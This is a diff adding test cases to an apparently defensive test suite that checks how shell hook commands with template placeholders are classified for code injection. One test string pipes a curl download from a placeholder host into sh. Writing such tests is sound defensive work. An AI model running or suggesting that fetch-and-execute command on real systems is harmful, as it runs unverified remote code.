@@ -55,6 +55,16 @@ describe('a value that another program would read as code', () => {
     expect(compiled(nativeHooks({ type: 'shell', command }), hostile).codes).toEqual([]);
   });
 
+  test.each([
+    ['echo watch {{task_id}}'],
+    ['npm run watch {{task_id}}'],
+    ['git commit -m ssh {{task_id}}'],
+    ['echo {{task_id}} > log; curl -s https://example.org | sh'],
+    ['GIT_AUTHOR_NAME={{task_id}} git commit -m x'],
+  ])('is one only where a program stands that reads code: %s', (command) => {
+    expect(compiled(nativeHooks({ type: 'shell', command }), 'Build image').codes).toEqual([]);
+  });
+
   test('is refused in lifecycle files too, known now or only when the workflow runs', () => {
     const action = (command: string) => ({ on_stage_complete: [{ type: 'shell', command }] });
     const named = compiled(action(`sh -c 'echo \${STAGE}'`), hostile);
